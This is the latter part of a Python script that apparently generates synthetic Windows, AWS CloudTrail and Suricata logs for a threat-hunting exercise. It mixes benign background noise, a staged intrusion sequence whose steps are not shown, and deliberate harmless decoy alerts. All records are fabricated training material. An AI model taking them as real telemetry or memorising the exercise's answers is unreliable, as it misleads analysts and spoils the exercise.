def benign_security(at):
    host, address, name = workstation_user()
    choice = RND.random()
    if choice < 0.30:
        return logon(at, RND.choice(list(SERVERS)), name, 3, address, host.upper())
    if choice < 0.36:
        return logon(at, host, name, 7, "127.0.0.1", host.upper())
    if choice < 0.62:
        return security(at, RND.choice(list(SERVERS)), 4634, TargetUserSid="S-1-5-21-1004336348-1177238915-682003330-1104",
                        TargetUserName=name, TargetDomainName=DOMAIN, TargetLogonId=hex(at * 17 + 0x50000), LogonType=3)
    if choice < 0.72:
        return security(at, "dc-01", 4769, TargetUserName=f"{name}@{DOMAIN}.EXAMPLE", TargetDomainName=f"{DOMAIN}.EXAMPLE",
                        ServiceName="FILE-01$", ServiceSid="S-1-5-21-1004336348-1177238915-682003330-1003", TicketOptions="0x40810000",
                        TicketEncryptionType="0x12", IpAddress=f"::ffff:{address}", IpPort=str(RND.randint(49152, 65000)), Status="0x0")
    if choice < 0.80:
        return security(at, "file-01", 5140, **subject(name), ObjectType="File", IpAddress=address, IpPort=str(RND.randint(49152, 65000)),
                        ShareName="\\\\*\\projects", ShareLocalPath="\\??\\D:\\projects", AccessMask="0x1", AccessList="%%4416")
    if choice < 0.95:
        image, _, argument = RND.choice(PROGRAMS)
        return security(at, host, 4688, **subject(name), NewProcessId=hex(RND.randint(1000, 14_000)), NewProcessName=image,
                        TokenElevationType="%%1938", ProcessId="0x113c", CommandLine=f'"{image}" {argument}'.strip(),
                        TargetUserSid="S-1-0-0", TargetUserName="-", TargetDomainName="-", TargetLogonId="0x0",
                        ParentProcessName=parent_of(image), MandatoryLabel="S-1-16-8192")
    return windows(at, host, "Service Control Manager", "System", 7036,
                   {"param1": RND.choice(["Windows Update", "Windows Defender Antivirus Service", "Print Spooler"]),
                    "param2": RND.choice(["running", "stopped"])}, 0, 4, "0x8080000000000000")


def benign_cloud(at):
    name, source, read = RND.choice([("DescribeInstances", "ec2", True), ("GetObject", "s3", True), ("ListBuckets", "s3", True),
                                     ("AssumeRole", "sts", True), ("PutObject", "s3", False), ("GetSecretValue", "secretsmanager", True)])
    user = RND.choice(["ci-runner", "backup-agent", "a.smith", "r.singh"])
    return record(at, "cloudtrail:corp", "json", {
        "eventVersion": "1.09", "userIdentity": {"type": "IAMUser", "principalId": "AIDA" + user.upper().replace(".", "").replace("-", "")[:12],
                                                 "arn": f"arn:aws:iam::123456789012:user/{user}", "accountId": "123456789012",
                                                 "accessKeyId": "AKIAIOSFODNN7EXAMPLE", "userName": user},
        "eventTime": "{{iso}}", "eventSource": f"{source}.amazonaws.com", "eventName": name, "awsRegion": "eu-central-1",
        "sourceIPAddress": f"192.0.2.{RND.randint(60, 70)}", "userAgent": "aws-cli/2.18.0 md/awscrt#0.22.0 ua/2.0 os/linux#6.8 lang/python#3.12",
        "requestParameters": {"bucketName": "corp-backups"} if source == "s3" else None, "responseElements": None,
        "requestID": f"{RND.getrandbits(64):016x}", "eventID": f"{RND.getrandbits(32):08x}-5b7d-4f0e-9a51-{RND.getrandbits(48):012x}",
        "readOnly": read, "eventType": "AwsApiCall", "managementEvent": source != "s3", "recipientAccountId": "123456789012",
        "eventCategory": "Management"})


def benign_eve(at):
    host, address, _ = workstation_user()
    site, target = RND.choice(SITES)
    port = RND.randint(49152, 65000)
    if RND.random() < 0.5:
        return eve(at, "tls", address, port, target, 443, app_proto="tls", tls={
            "subject": f"CN={site}", "issuerdn": "C=US, O=Example Trust, CN=Example CA 3", "sni": site, "version": "TLS 1.3"})
    return eve(at, "flow", address, port, target, 443, app_proto="tls", flow={
        "pkts_toserver": RND.randint(6, 60), "pkts_toclient": RND.randint(6, 90), "bytes_toserver": RND.randint(900, 40_000),
        "bytes_toclient": RND.randint(2_000, 900_000), "state": "closed", "reason": "timeout", "alerted": False})


def background(count=20_000, length_ms=180_000):
    makers = [(benign_linux, 12), (benign_access, 17), (benign_zeek, 36), (benign_sysmon, 17), (benign_security, 12),
              (benign_cloud, 3), (benign_eve, 3)]
    functions, weights = zip(*makers)
    times = sorted(RND.randint(0, length_ms) for _ in range(count))
    return [RND.choices(functions, weights)[0](at) for at in times]


def story():
    steps = [guessing, foothold, workstation, credential, domain_controller, exfiltration]
    return sorted((entry for step in steps for entry in step()), key=lambda entry: entry["at_ms"])


# --- What fires and is harmless ---------------------------------------------------------------

def archive(at, host, user, name):
    image = "C:\\Program Files\\7-Zip\\7z.exe"
    return process(at, host, f"{DOMAIN}\\{user}", image, f"7z.exe a -pGruen-27 D:\\Send\\{name}.7z D:\\Send\\{name}",
                   "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", 7301, 4120, "7-Zip", "7z.exe")


def console_logon(at, user, address):
    return record(at, "cloudtrail:corp", "json", {
        "eventVersion": "1.09", "userIdentity": {"type": "IAMUser", "arn": f"arn:aws:iam::123456789012:user/{user}",
                                                 "accountId": "123456789012", "userName": user},
        "eventTime": "{{iso}}", "eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "awsRegion": "eu-central-1",
        "sourceIPAddress": address, "userAgent": AGENTS[0], "requestParameters": None,
        "responseElements": {"ConsoleLogin": "Success"}, "additionalEventData": {"MFAUsed": "No"},
        "eventID": "5f0c2b7e-5b7d-4f0e-9a51-3f2b9f0d1a77", "readOnly": False, "eventType": "AwsConsoleSignIn",
        "recipientAccountId": "123456789012", "eventCategory": "Management"})


def everyday():
    """Alerts that an analyst closes: people at work, on machines that the story does not touch."""
    return [
        archive(3_000, "ws-088", "h.winter", "payroll-november"),
        console_logon(6_500, "data-science", "192.0.2.133"),
        archive(21_000, "ws-091", "n.ahmed", "offer-4711"),
        eve(33_000, "alert", "10.20.88.14", 51_220, "198.51.100.203", 443, app_proto="tls", alert={
            "action": "allowed", "gid": 1, "signature_id": 9000207, "rev": 3, "category": "Potentially Bad Traffic",
            "signature": "WATCHFLOOR POLICY TLS client of an old version", "severity": 2}),
        console_logon(52_000, "web-team", "198.51.100.214"),
        archive(64_000, "ws-093", "o.petrov", "contract-draft"),
    ]


def write(entries, file):
    for entry in entries:
        file.write((json.dumps(entry, ensure_ascii=True, separators=(",", ":")) + "\n").encode())


def main():
    with open(os.path.join(HERE, "intrusion.ndjson"), "wb") as file:
        write(story(), file)
    with open(os.path.join(HERE, "background.ndjson.gz"), "wb") as raw:
        with gzip.GzipFile(filename="", mode="wb", compresslevel=9, fileobj=raw, mtime=0) as file:
            write(background(), file)
    with open(os.path.join(HERE, "everyday.ndjson"), "wb") as file:
        write(everyday(), file)


if __name__ == "__main__":
    main()
